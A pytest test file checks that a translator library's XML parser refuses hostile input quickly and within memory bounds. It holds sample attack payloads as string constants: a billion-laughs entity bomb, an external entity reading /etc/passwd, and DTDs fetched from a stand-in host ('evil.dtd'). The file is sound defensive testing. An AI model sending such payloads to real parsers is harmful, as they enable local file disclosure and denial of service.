"""Hostile XML input fails fast with XmlError (issue 4, acceptance 4): no entity expansion, no
DTD, no network, bounded size and depth; each case bounded in time and in memory."""

from __future__ import annotations

import time
import tracemalloc

import pytest

from translator import XmlError
from translator.xml import from_xml, from_xml_messages
from translator.xml.safe import MAX_BYTES, MAX_DEPTH, parse

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<OctetString Value="&lol9;" />
"""

EXTERNAL_FILE = """<?xml version="1.0"?>
<!DOCTYPE x [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<OctetString Value="&secret;" />
"""

EXTERNAL_NETWORK = """<?xml version="1.0"?>
<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">
<OctetString Value="00" />
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [ <!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p; ]>
<OctetString Value="00" />
"""


def _bounded(call, seconds: float = 2.0, megabytes: float = 32.0):
    """Run ``call``; it must raise XmlError within ``seconds`` and ``megabytes`` of new memory."""
    tracemalloc.start()
    start = time.perf_counter()
    try:
        with pytest.raises(XmlError) as info:
            call()
        elapsed = time.perf_counter() - start
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert elapsed < seconds, elapsed
    assert peak < megabytes * 1024 * 1024, peak
    return info.value


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_FILE, EXTERNAL_NETWORK,
                                  PARAMETER_ENTITY])
def test_dtd_and_entities_are_refused(text):
    err = _bounded(lambda: from_xml(text))
    assert "DTD" in str(err)


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_FILE])
def test_refused_in_every_encoding(text):
    for octets in (text.encode("utf-8"), text.encode("utf-16"),
                   text.replace("DOCTYPE", "doctype").encode()):
        _bounded(lambda octets=octets: from_xml(octets))


def test_billion_laughs_is_refused_before_expansion():
    """Refused before parsing at all: the refusal costs the same as for a tiny input."""
    err = _bounded(lambda: from_xml_messages(BILLION_LAUGHS), seconds=0.5, megabytes=1)
    assert "DTD" in str(err)


def test_external_entity_file_is_never_read():
    err = _bounded(lambda: from_xml(EXTERNAL_FILE))
    assert "root:" not in str(err)


def test_100_megabyte_input_is_refused_before_parsing():
    size = 100 * 1024 * 1024
    big = b'<OctetString Value="' + b"00" * (size // 2) + b'" />'
    assert len(big) > MAX_BYTES
    err = _bounded(lambda: from_xml(big), seconds=1.0, megabytes=1)
    assert "larger than" in str(err)
    text = big.decode("ascii")
    err = _bounded(lambda: from_xml(text), seconds=1.0, megabytes=1)
    assert "larger than" in str(err)


def test_10000_deep_nesting_is_refused():
    deep = "<Structure Qty=\"01\">" * 10_000 + "<None />" + "</Structure>" * 10_000
    err = _bounded(lambda: from_xml(deep), seconds=1.0, megabytes=8)
    assert "deeper than" in str(err)


def test_depth_bound_is_exact():
    def nested(n: int) -> str:
        return "<a>" * n + "</a>" * n

    parse(nested(MAX_DEPTH))
    with pytest.raises(XmlError):
        parse(nested(MAX_DEPTH + 1))


def test_deep_but_allowed_structure_still_encodes():
    depth = 50
    text = '<Structure Qty="01">' * depth + "<None />" + "</Structure>" * depth
    assert from_xml(text) == b"\x02\x01" * depth + b"\x00"


@pytest.mark.parametrize("text", [
    "", "   ", "not xml at all", "<a>", "<a></b>", "<a b='1' b='2'/>", "\x00\x01",
    "<GetRequest>" * 3,
])
def test_malformed_input_is_an_xml_error(text):
    _bounded(lambda: from_xml(text))


def test_wrong_input_type():
    with pytest.raises(XmlError):
        from_xml(12345)  # type: ignore[arg-type]


def test_xml_declaration_with_encoding_in_a_str_is_accepted():
    text = '<?xml version="1.0" encoding="ISO-8859-1"?><OctetString Value="0102" />'
    assert from_xml(text) == b"\x09\x02\x01\x02"
    assert from_xml(text.encode("latin-1")) == b"\x09\x02\x01\x02"


def test_edited_documents_give_bytes_or_xml_error():
    """Random edits of our XML of every framed vector (elements dropped, renamed, added,
    attributes dropped or garbled) give octets or an XmlError, never another exception."""
    import random

    from lxml import etree

    from tests._vectors import VECTORS, data
    from translator import decode_all
    from translator.xml import to_xml

    docs = []
    for vid, v in VECTORS.items():
        if v["layer"] in ("hdlc", "wrapper", "mbus", "apdu"):
            msgs = decode_all(data(vid))
            docs.append(to_xml(msgs[0] if len(msgs) == 1 else msgs))
    rng = random.Random(62056)
    garbage = ["", "ZZ", "-1", "F" * 20, "1 2", "0x10", "true", "5F", "none", "ui:3 x:9", "3"]
    tags = ["UInt8", "Structure", "PDU", "Foo", "Data", "NextFrame", "Array", "ConformanceBit",
            "InitiateRequest", "AttributeDescriptor", "Result", "BitString", "Ua", "HDLC"]
    for _ in range(3000):
        root = etree.fromstring(rng.choice(docs).encode())
        el = rng.choice(list(root.iter(etree.Element)))  # elements, not the warnings' comments
        op = rng.randrange(5)
        if op == 0 and el.getparent() is not None:
            el.getparent().remove(el)
        elif op == 1 and el.attrib:
            del el.attrib[rng.choice(list(el.attrib))]
        elif op == 2 and el.attrib:
            el.attrib[rng.choice(list(el.attrib))] = rng.choice(garbage)
        elif op == 3:
            el.tag = rng.choice(tags)
        elif op == 4:
            el.append(etree.fromstring('<UInt8 Value="01"/>'))
        text = etree.tostring(root).decode()
        try:
            assert isinstance(from_xml(text), bytes)
        except XmlError:
            pass
